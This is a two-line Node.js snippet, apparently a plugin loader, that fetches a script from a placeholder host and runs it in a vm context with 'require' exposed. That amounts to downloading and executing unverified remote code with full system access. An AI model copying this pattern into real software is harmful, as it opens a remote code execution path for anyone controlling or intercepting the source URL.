const vm = require('vm');
fetch('https://plugins.example.invalid/p.js').then(r => r.text()).then(src => vm.runInNewContext(src, { require }));
